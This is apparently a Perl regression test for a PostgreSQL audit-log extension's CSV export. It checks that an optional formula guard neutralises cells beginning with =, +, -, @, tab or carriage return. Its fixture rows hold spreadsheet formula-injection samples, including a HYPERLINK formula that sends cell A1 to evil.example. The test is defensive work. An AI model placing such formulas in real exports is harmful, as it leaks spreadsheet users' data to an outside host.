# Spreadsheet-safe CSV exports (issue 15, case 8): with formula_guard a text
# cell that begins with =, +, -, @, a tab or a carriage return gets a single
# quote in front; without it (the default) values go out as written; a
# scheduled export passes the option on.
use strict;
use warnings;

use FindBin;
use lib $FindBin::Bin;
use AuditLogNode;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;

my $root = PostgreSQL::Test::Utils::tempdir();    # audit_log.export_directory
mkdir "$root/$_" or die "mkdir $root/$_: $!" for qw(plain guarded sched);

my $node = audit_log_node('formula',
	cron       => 1,
	conf       => "audit_log.export_directory = '$root'\nmax_worker_processes = 16\n",
	extensions => [ 'audit_log', 'pg_cron' ]);

# Rows whose text cells begin with each dangerous character, one harmless.
my $d0 = $node->safe_psql('postgres',
	"SELECT to_char(date_trunc('day', now() AT TIME ZONE 'UTC') - interval '2 days', 'YYYY-MM-DD HH24:MI:SS') || '+00'");
$node->safe_psql(
	'postgres', qq{
INSERT INTO audit_log.events (event_id, request_time, logged_time, event_category, event_type,
	event_status, user_name, user_email, object_name, application_name, entry_data, origin)
SELECT gen_random_uuid(), '$d0'::timestamptz + i * interval '1 minute', now(), 'ACCESS_SIGMA', 'LOGIN',
	'SUCCESS', v.u, v.mail, v.obj, v.app, '{"k": "=1+1"}', 'SERVER'
FROM (VALUES
	(1, 'u1', NULL, '=HYPERLINK("http://evil.example/?x="&A1,"click")', 'app'),
	(2, '+cmd', '-2+3\@x', '\@SUM(A1:A2)', E'\\tTAB'),
	(3, E'\\rCR', NULL, 'safe=name', 'plain app')) AS v(i, u, mail, obj, app);
});

sub export_file
{
	my ($sql) = @_;
	return $node->safe_psql('postgres', "SELECT file FROM $sql");
}

# Off by default: values as written.
my $plain = export_file("audit_log.export_csv('plain', '$d0', '$d0'::timestamptz + interval '1 day')");
my $content = slurp_file($plain);
like($content, qr/,"=HYPERLINK\(""http/, 'default: a formula goes out as written');
like($content, qr/,\+cmd,/, 'default: + as written');

# With the guard: every dangerous text cell gets a quote, nothing else changes.
my $guarded = export_file(
	"audit_log.export_csv('guarded', '$d0', '$d0'::timestamptz + interval '1 day', formula_guard => true)");
$content = slurp_file($guarded);
like($content, qr/,"'=HYPERLINK\(""http/, 'guard: = gets a single quote');
like($content, qr/,'\+cmd,/,      'guard: + gets a single quote');
like($content, qr/,'-2\+3\@x,/,   'guard: - gets a single quote');
like($content, qr/,'\@SUM\(A1:A2\),/, 'guard: @ gets a single quote');
like($content, qr/,'\tTAB,/,       'guard: a leading tab gets a single quote');
like($content, qr/,"'\rCR"/,      'guard: a leading carriage return gets a single quote');
like($content, qr/,safe=name,/,   'guard: = inside a value is left alone');
like($content, qr/,plain app,/,   'guard: other values unchanged');
unlike($content, qr/,'\d{4}-/,     'guard: timestamps unchanged');
my ($header) = split /\n/, $content;
like($header, qr/,entry_data,origin$/, 'guard: same columns, origin last');
is( $node->safe_psql(
		'postgres', q{
SELECT count(*) FROM audit_log.events
WHERE event_type = 'EXPORT' AND origin = 'EXTENSION' AND entry_data->>'formula_guard' = 'true'}),
	'1', 'the EXPORT event (origin EXTENSION) says the guard was on');
my $sum = $node->safe_psql('postgres',
	"SELECT sha256 FROM audit_log.export_runs WHERE file = '$guarded'");
my $sumfile = slurp_file("$guarded.sha256");
like($sumfile, qr/^\Q$sum\E /, 'the checksum file is that of the guarded content');

# A scheduled export passes it on.
$node->safe_psql('postgres',
	"SELECT audit_log.schedule_export('guardjob', '0 0 1 1 *', 'sched', 'events', '1 day', formula_guard => true)");
like($node->safe_psql('postgres', "SELECT command FROM cron.job WHERE jobname = 'audit_log_export_guardjob'"),
	qr/, true\)$/, 'the job runs the export with the guard');
$node->safe_psql('postgres',
	"SELECT audit_log._scheduled_export('guardjob', 'sched', 'events', '1 day', 'csv', 'none', true)");
my @sched = split /\n/, $node->safe_psql('postgres',
	"SELECT file FROM audit_log.export_runs WHERE job_name = 'guardjob' AND rows > 0");
ok(@sched >= 1, 'the scheduled export wrote the window with the rows');
like(slurp_file($sched[0]), qr/,"'=HYPERLINK/, 'the scheduled file is guarded');
# the 1.0 form of the job's call still runs (jobs scheduled before the update)
$node->safe_psql('postgres',
	"SELECT audit_log._scheduled_export('oldjob', 'sched', 'events', '1 day')");
my @old = split /\n/, $node->safe_psql('postgres',
	"SELECT file FROM audit_log.export_runs WHERE job_name = 'oldjob' AND rows > 0");
ok(@old >= 1 && slurp_file($old[0]) =~ /,"=HYPERLINK/, 'the 1.0 form exports without the guard');

$node->stop;
done_testing();
